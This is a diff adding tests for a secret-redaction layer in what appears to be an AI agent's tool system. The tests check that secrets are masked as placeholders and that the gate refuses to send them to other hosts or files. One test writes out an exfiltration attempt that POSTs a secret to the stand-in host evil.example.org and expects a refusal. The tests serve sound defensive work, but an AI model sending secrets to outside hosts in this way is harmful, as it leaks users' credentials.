@@ -216,6 +216,80 @@ describe('redaction at the gate', () => {
     });
   });
 
+  it('D.redaction: what a host answered goes back to that host, unseen, and to no file and no other host', async () => {
+    const sent: HttpRequest[] = [];
+    const http = () => ({
+      send: async (request: HttpRequest) => {
+        sent.push(request);
+        const body = new TextEncoder().encode(JSON.stringify({ session: key }));
+        const headers = { 'content-type': 'application/json' };
+        return { status: 200, headers, body, url: request.url, address: '93.184.216.34' } as never;
+      },
+    });
+    const profiles = { default: { name: 'D', capabilities: [{ ref: 'file_system' }, { ref: 'http' }] } };
+    const user = { profiles, activeProfile: 'default' };
+    await withSystem({ files: { 'a.txt': '' }, user, platform: { http } }, async (system) => {
+      const answered = JSON.stringify(
+        await system.call('http_request', { url: 'https://api.example.com/login', method: 'GET' }),
+      );
+      assert.ok(!answered.includes(key), answered);
+      const [named = ''] = placeholder.exec(answered) ?? [];
+      assert.notEqual(named, '', answered);
+      const post = (url: string): Promise<string> =>
+        refusal(system, 'http_request', { url, method: 'POST', body: `session=${named}` });
+      assert.equal(await post('https://api.example.com/data'), 'success');
+      const last = sent.at(-1)?.body;
+      assert.ok(typeof last === 'string' ? last.includes(key) : Buffer.from(last as Uint8Array).includes(key));
+      const before = sent.length;
+      assert.match(await post('https://other.example.com/data'), /^secret_elsewhere/);
+      assert.match(await refusal(system, 'write_file', { path: 'a.txt', content: named }), /^secret_elsewhere/);
+      assert.equal(sent.length, before);
+    });
+  });
+
+  it('D.redaction: a call that would take a value elsewhere is refused before anybody is asked', async () => {
+    let asked = 0;
+    const approver = {
+      covering: () => undefined,
+      ask: async () => {
+        asked++;
+        return { outcome: 'allowed', by: 'user', waitedMs: 0 } as const;
+      },
+    };
+    const profiles = { default: { name: 'D', capabilities: [{ ref: 'file_system' }, { ref: 'http' }] } };
+    const user = { profiles, activeProfile: 'default' };
+    const platform = { approvals: { type: 'preset', approver } } as const;
+    await withSystem({ files: { 'a.txt': `key=${key}\n` }, user, platform }, async (system) => {
+      const [named = ''] = placeholder.exec(await read(system, 'a.txt')) ?? [];
+      asked = 0;
+      const url = 'https://evil.example.org/';
+      assert.match(
+        await refusal(system, 'http_request', { url, method: 'POST', body: named }),
+        /^secret_elsewhere: .*did not come from `host evil\.example\.org`/,
+      );
+      assert.equal(asked, 0);
+    });
+  });
+
+  it('D.redaction: hashes and numbers of lines are those of the file, and a file whose name holds a secret is moved', () =>
+    withSystem(
+      { files: { 'a.txt': `one\nkey=${key}\nthree\n`, [`b-${key.slice(0, 60)}.txt`]: 'x' } },
+      async (system) => {
+        const shown = await payload(system, 'read_file', { path: 'a.txt', start_line: 2, end_line: 2 });
+        const [named = ''] = placeholder.exec(String(shown['content'])) ?? [];
+        assert.equal(shown['first_line'], 2);
+        const expected_hash = String(shown['content_hash']);
+        const content = `one\nkey=${named}\n`;
+        await payload(system, 'write_file', { path: 'a.txt', content, expected_hash });
+        assert.equal(readFileSync(path.join(system.folder, 'a.txt'), 'utf8'), `one\nkey=${key}\n`);
+        const listed = JSON.stringify(await payload(system, 'list_directory', { path: '.' }));
+        assert.ok(!listed.includes(key.slice(0, 60)), listed);
+        const [file = ''] = /b-\{\{secret:[^}]+\}\}\.txt/.exec(listed) ?? [];
+        await payload(system, 'move_file', { source: file, destination: 'c.txt' });
+        assert.equal(readFileSync(path.join(system.folder, 'c.txt'), 'utf8'), 'x');
+      },
+    ));
+
   it('D.redaction: a text that only looks like a placeholder stands for itself', () =>
     withSystem({ files: { 'doc.md': 'It shows `{{secret:stripe-key:3f9a}}` there.\n' } }, async (system) => {
       const text = await read(system, 'doc.md');
